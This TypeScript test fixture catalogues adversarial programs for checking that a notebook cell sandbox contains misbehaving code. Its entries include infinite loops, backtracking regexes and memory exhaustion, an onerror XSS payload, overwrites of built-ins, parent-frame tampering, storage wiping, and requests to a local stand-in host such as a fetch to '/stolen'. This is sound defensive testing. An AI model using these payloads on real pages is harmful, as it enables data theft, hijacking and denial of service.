/**
 * Ways to misuse a cell: what is done, and the program that does it. Each is the second line of a
 * cell whose first line is `const delay = 7;`. `ends` is false for those that must be ended from
 * outside: nothing within the program can stop them.
 */
export interface Misuse {
  readonly what: string;
  readonly code: string;
  readonly ends?: boolean;
}

/** Stands in programs for a host that the test listens at, to see who reaches it. */
export const elsewhere = "127.0.0.1:9";

type Row = readonly [what: string, code: string];

const ending = (rows: readonly Row[]): Misuse[] => rows.map(([what, code]) => ({what, code}));
const endless = (rows: readonly Row[]): Misuse[] =>
  rows.map(([what, code]) => ({what, code, ends: false}));

/** Loops that are found and named, and native work that is not. */
const loops: readonly Misuse[] = [
  ...ending([
    ["a while loop", "while (true);"],
    ["a for loop", "for (;;) {}"],
    ["a do loop", "do ; while (true);"],
    ["a for-of loop over a generator", "for (const x of (function* () { for (;;) yield 1; })());"],
    ["a labelled continue", "a: for (;;) { for (;;) continue a; }"],
    ["a loop over await", "for (;;) await null;"],
    ["a loop over await of a rejected promise", "for (;;) await Promise.reject(1).catch(() => 0);"],
    ["a loop in a try", "for (;;) { try { for (;;); } catch {} }"],
    ["a loop in a finally", "try { throw 1; } finally { for (;;); }"],
    ["a loop in a getter", "void ({get a() { for (;;); }}).a;"],
    ["a loop in a setter", "({set a(v: number) { for (;;); }}).a = 1;"],
    ["a loop in toString", "`${{toString() { for (;;); }}}`;"],
    ["a loop in valueOf", "+({valueOf() { for (;;); }} as never);"],
    ["a loop in toJSON", "JSON.stringify({toJSON() { for (;;); }});"],
    ["a loop in Symbol.toPrimitive", "`${{[Symbol.toPrimitive]() { for (;;); }}}`;"],
    ["a loop in a proxy", "void (new Proxy({}, {get() { for (;;); }}) as any).a;"],
    ["a loop in a comparator", "[2, 1].sort(() => { for (;;); });"],
    ["a loop in a static block", "class A { static { for (;;); } }"],
    ["a loop in a class field", "new (class { a = (() => { for (;;); })(); })();"],
    ["a loop in a default parameter", "((a = (() => { for (;;); })()) => a)();"],
    ["a loop in a tagged template", "((t: any) => { for (;;); })`x`;"],
    ["a loop in a replacer", '"aa".replace(/a/g, () => { for (;;); });'],
    ["a loop in a constructor", "new (class { constructor() { for (;;); } })();"],
    ["a loop in an array's callback", "[1].map(() => { for (;;); });"],
    ["recursion", "const f = (): number => f() + 1; f();"],
    ["recursion by two functions", "const f = (): any => g(), g = (): any => f(); f();"],
    ["recursion that catches itself", "const f = (): any => { try { f(); } catch { f(); } }; f();"],
    ["recursion in a getter", "const o = {get a(): any { return o.a; }}; void o.a;"]
  ]),
  ...endless([
    ["a regular expression that backtracks", '/(a+)+$/.test("a".repeat(40) + "b");'],
    ["another one", '/^(a|aa)+$/.test("a".repeat(60) + "b");'],
    ["a regular expression in replace", '"a".repeat(40).replace(/(a+)+b/, "");'],
    ["a regular expression in split", '("a".repeat(40) + "!").split(/(a*)*b/);'],
    ["a loop in eval", 'eval("for (;;);");'],
    ["a loop in an indirect eval", '(0, eval)("for (;;);");'],
    ["a loop in new Function", 'new Function("for (;;);")();'],
    ["a loop in the constructor of a function", '(() => {}).constructor("for (;;);")();'],
    [
      "a native iterator without end",
      "Array.from({[Symbol.iterator]: () => ({next: Object})} as never);"
    ],
    ["a promise chain without end", "const f = (): any => Promise.resolve().then(f); await f();"],
    [
      "microtasks without end",
      "const f = (): void => queueMicrotask(f); f(); await new Promise(() => {});"
    ],
    ["a thenable that answers with itself", "const t: any = {then: (ok: any) => ok(t)}; await t;"],
    ["a wait without end", "await new Promise(() => {});"]
  ])
];

const memory: readonly Misuse[] = [
  ...ending([
    ["an array that cannot be", "new Array(2 ** 33);"],
    ["a text that cannot be", '"x".repeat(2 ** 30);'],
    ["a buffer that cannot be", "new ArrayBuffer(2 ** 53 - 1);"],
    ["a large array filled", "new Array(3e7).fill(0);"],
    ["a large sort", "Float64Array.from({length: 2e6}, Math.random).sort();"],
    [
      "nested objects, 10,000 deep",
      "let deep: any = 1; for (let i = 0; i < 1e4; i++) deep = [deep];"
    ],
    ["a circle in what it gives", "const circle: any = {}; circle.self = circle;"],
    ["a million parts in what it gives", "const parts = Array.from({length: 1e6}, (_, i) => [i]);"],
    ["a huge text in what it gives", 'const text = "x".repeat(1e7);'],
    ["spread of too many arguments", "Math.max(...new Array(1e6).fill(0));"],
    ["a symbol in what it gives", "const symbol = Symbol();"],
    ["a class in what it gives", "class Own {} const own = new Own();"],
    ["a weak map in what it gives", "const weak = new WeakMap();"],
    [
      "a proxy in what it gives",
      'const proxy = new Proxy({}, {ownKeys() { throw new Error("no"); }});'
    ],
    [
      "a getter that throws in what it gives",
      'const getter = {get a() { throw new Error("no"); }};'
    ],
    ["a key named __proto__", 'const own = JSON.parse(\'{"__proto__": {"a": 1}}\');'],
    ["a function in what it gives", "const f = () => 1;"],
    ["a promise in what it gives", "const p = Promise.resolve(1);"]
  ])
];

const output: readonly Misuse[] = ending([
  ["a text of 100 MB shown", 'display("x".repeat(1e8));'],
  ["a million values shown", "for (let i = 0; i < 1e6; i++) display(i);"],
  ["a thousand long texts shown", 'for (let i = 0; i < 1000; i++) display("x".repeat(1e5));'],
  ["a large object shown", "display(Array.from({length: 1e5}, (_, i) => i));"],
  [
    "a million elements shown",
    'const all = document.createElement("p"); all.innerHTML = "<i></i>".repeat(1e6); display(all);'
  ],
  [
    "a script shown",
    'const s = document.createElement("script"); s.textContent = "top.pwned = 1"; display(s);'
  ],
  [
    "markup with a handler shown",
    'const d = document.createElement("div"); d.innerHTML = "<img src=x onerror=\'top.pwned=1\'>"; display(d);'
  ],
  [
    "a style for everything",
    'display(Object.assign(document.createElement("style"), {textContent: "* {display: none !important}"}));'
  ],
  [
    "an element that lies over everything",
    'const e = document.createElement("div"); e.style.cssText = "position: fixed; inset: 0; z-index: 1e9"; display(e);'
  ],
  [
    "an element of endless height",
    'const e = document.createElement("div"); e.style.height = "1e9px"; display(e);'
  ],
  ["a dialog shown", 'const d = document.createElement("dialog"); display(d); d.showModal();'],
  [
    "a frame shown",
    'const f = document.createElement("iframe"); f.src = "http://127.0.0.1:9/"; display(f);'
  ],
  [
    "a form sent",
    'const f = document.createElement("form"); f.action = "http://127.0.0.1:9/"; display(f); f.submit();'
  ],
  [
    "a link clicked",
    'const a = document.createElement("a"); a.href = "http://127.0.0.1:9/"; a.target = "_top"; display(a); a.click();'
  ],
  [
    "a download",
    'const a = document.createElement("a"); a.href = "data:,x"; a.download = "x"; display(a); a.click();'
  ],
  ["an alert", "alert(1);"],
  ["a question", 'prompt("password"); confirm("?");'],
  ["printing", "print();"],
  ["a function shown", "display(() => 1);"],
  ["a symbol shown", "display(Symbol());"],
  ["an object without prototype shown", "display(Object.create(null));"],
  ["console.log of a lot", 'for (let i = 0; i < 100; i++) console.log("x".repeat(1e4));']
]);

/** What all code relies on: in the page, it must stay what it is. */
const intrinsics: readonly Misuse[] = ending(
  [
    ...["map", "push", "filter", "forEach", "slice", "join", "includes", "indexOf", "at"].map(
      (name) => `Array.prototype.${name} = null as never;`
    ),
    ...["split", "replace", "slice", "trim", "startsWith"].map(
      (name) => `String.prototype.${name} = null as never;`
    ),
    ...["then", "catch", "finally"].map((name) => `Promise.prototype.${name} = null as never;`),
    "(Array.prototype as any)[Symbol.iterator] = null;",
    "(Object.prototype as any).get = 1;",
    "(Object.prototype as any).then = (ok: any) => ok(1);",
    'Object.defineProperty(Object.prototype, "kind", {get: () => "done"});',
    "Object.keys = Object.entries = Object.assign = null as never;",
    "Map.prototype.get = Map.prototype.set = null as never;",
    "Function.prototype.call = Function.prototype.bind = null as never;",
    "JSON.stringify = JSON.parse = null as never;",
    "Math.random = null as never;",
    "(globalThis as any).Promise = null;",
    "(globalThis as any).Error = null;",
    "(globalThis as any).setTimeout = null;",
    "(globalThis as any).performance = null;",
    "(globalThis as any).postMessage = null;",
    "MessagePort.prototype.postMessage = null as never;",
    "Error.prototype.toString = () => { throw new Error(); };",
    "Error.prepareStackTrace = () => { for (;;); };",
    "Object.freeze(globalThis);",
    "Object.setPrototypeOf(globalThis, null);",
    "for (const key of Object.getOwnPropertyNames(globalThis)) try { delete (globalThis as any)[key]; } catch {}"
  ].map((code): Row => [code.slice(0, 60), code])
);

const reaching: readonly Misuse[] = ending(
  [
    'document.body.innerHTML = "";',
    "document.body.remove();",
    "document.documentElement.remove();",
    'document.open(); document.write("gone"); document.close();',
    'document.title = "pwned";',
    'top!.document.title = "pwned";',
    "parent.document.body.remove();",
    'parent.postMessage("sandbox", "*");',
    'parent.postMessage({kind: "done"}, "*");',
    'top!.location.href = "http://127.0.0.1:9/";',
    'location.href = "http://127.0.0.1:9/";',
    'location.replace("about:blank");',
    "location.reload();",
    'document.location = "http://127.0.0.1:9/";',
    'setTimeout(() => { document.location = "http://127.0.0.1:9/"; }, 50); document.title;',
    'open("http://127.0.0.1:9/");',
    "history.back();",
    'history.pushState(null, "", "/gone");',
    "window.close();",
    "top!.close();",
    "localStorage.clear();",
    "sessionStorage.clear();",
    'document.cookie = "a=" + "x".repeat(4000);',
    'indexedDB.deleteDatabase("a"); await new Promise((ok) => setTimeout(ok, 20));',
    'await caches.delete("a");',
    'await navigator.serviceWorker.register("sw.js");',
    "await navigator.serviceWorker.getRegistrations();",
    'new BroadcastChannel("a").postMessage(1);',
    'await fetch("http://127.0.0.1:9/stolen");',
    'await fetch("./index.html");',
    'new WebSocket("ws://127.0.0.1:9/");',
    'new EventSource("http://127.0.0.1:9/");',
    'navigator.sendBeacon("http://127.0.0.1:9/", "x"); document.title;',
    'const x = new XMLHttpRequest(); x.open("GET", "http://127.0.0.1:9/", false); x.send();',
    'importScripts("http://127.0.0.1:9/a.js");',
    "await eval(\"import('http://127.0.0.1:9/a.js')\");",
    "await new Function(\"return import('data:text/javascript,1')\")();",
    'new Worker("http://127.0.0.1:9/a.js");',
    'new Worker(URL.createObjectURL(new Blob(["for (;;);"])));',
    'new Image().src = "http://127.0.0.1:9/a.png";',
    'document.body.style.background = "url(http://127.0.0.1:9/a.png)";',
    'await navigator.clipboard.writeText("x");',
    "await document.documentElement.requestFullscreen();",
    'addEventListener("message", () => { for (;;); });',
    "onmessage = null as never; close();",
    "(self as any).close(); await new Promise((ok) => setTimeout(ok, 50));"
  ].map((code): Row => [code.slice(0, 60), code])
);

const errors: readonly Misuse[] = ending([
  ["throws null", "throw null;"],
  ["throws undefined", "throw undefined;"],
  ["throws a text of 100 MB", 'throw "x".repeat(1e8);'],
  ["throws an error with a long message", 'throw new Error("x".repeat(1e8));'],
  ["throws what has no text", "throw Object.create(null);"],
  ["throws a proxy", "throw new Proxy(new Error(), {get() { throw 1; }});"],
  [
    "throws an error whose message is a getter",
    'throw Object.defineProperty(new Error(), "message", {get() { throw 1; }});'
  ],
  ["throws an error whose stack is a number", "throw Object.assign(new Error(), {stack: 5});"],
  ["throws a function", "throw () => 1;"],
  [
    "rejects 10,000 promises",
    "for (let i = 0; i < 1e4; i++) void Promise.reject(new Error(String(i)));"
  ],
  ["throws from a timer", 'setTimeout(() => { throw new Error("later"); });'],
  ["throws from many timers", "for (let i = 0; i < 1000; i++) setTimeout(() => { throw i; });"],
  ["loops from a timer on", "setTimeout(() => { for (;;); });"],
  ["backtracks from a timer on", 'setTimeout(() => /^(a+)+$/.test("a".repeat(40) + "b"));'],
  ["an interval that loops", "setInterval(() => { for (;;); });"],
  [
    "two animation frames in each",
    "const f = () => { requestAnimationFrame(f); requestAnimationFrame(f); }; f();"
  ],
  ["an import that is not there", 'await import("left-pad");'],
  ["an export", "export const shared = 2;"],
  ["a return", "return 5;"],
  ["a lot of brackets", "[".repeat(2000) + "]".repeat(2000) + ";"],
  ["__cell assigned", "(globalThis as any).__cell = null;"],
  ["__cell.left taken up", 'try { eval("__cell.left = Infinity"); } catch {} for (;;);']
]);

/** All of them, by kind. */
export const misuses: Readonly<Record<string, readonly Misuse[]>> = {
  "work without end": loops,
  "too much": memory,
  "too much to show": output,
  "what all code relies on": intrinsics,
  "out of its place": reaching,
  errors
};

/** The most dangerous of them, for a browser of another engine. */
const core: readonly string[] = [
  "a loop over await",
  "recursion",
  "a regular expression that backtracks",
  "a native iterator without end",
  "a promise chain without end",
  "a wait without end",
  "a text that cannot be",
  "a million parts in what it gives",
  "a text of 100 MB shown",
  "a million values shown",
  "markup with a handler shown",
  "a style for everything",
  "a form sent",
  "Array.prototype.map = null as never;",
  "(Object.prototype as any).then = (ok: any) => ok(1);",
  "document.body.remove();",
  "parent.document.body.remove();",
  'parent.postMessage({kind: "done"}, "*");',
  'top!.location.href = "http://127.0.0.1:9/";',
  'location.href = "http://127.0.0.1:9/";',
  "localStorage.clear();",
  'new Image().src = "http://127.0.0.1:9/a.png";',
  'new Worker(URL.createObjectURL(new Blob(["for (;;);"])));',
  "loops from a timer on"
];

/** The same for all browsers, where running all of them takes too long. */
export const coreMisuses: readonly Misuse[] = core.map((what) => {
  const found = Object.values(misuses)
    .flat()
    .find((each) => each.what === what);
  if (!found) throw new Error(`No program is named ${what}.`);
  return found;
});
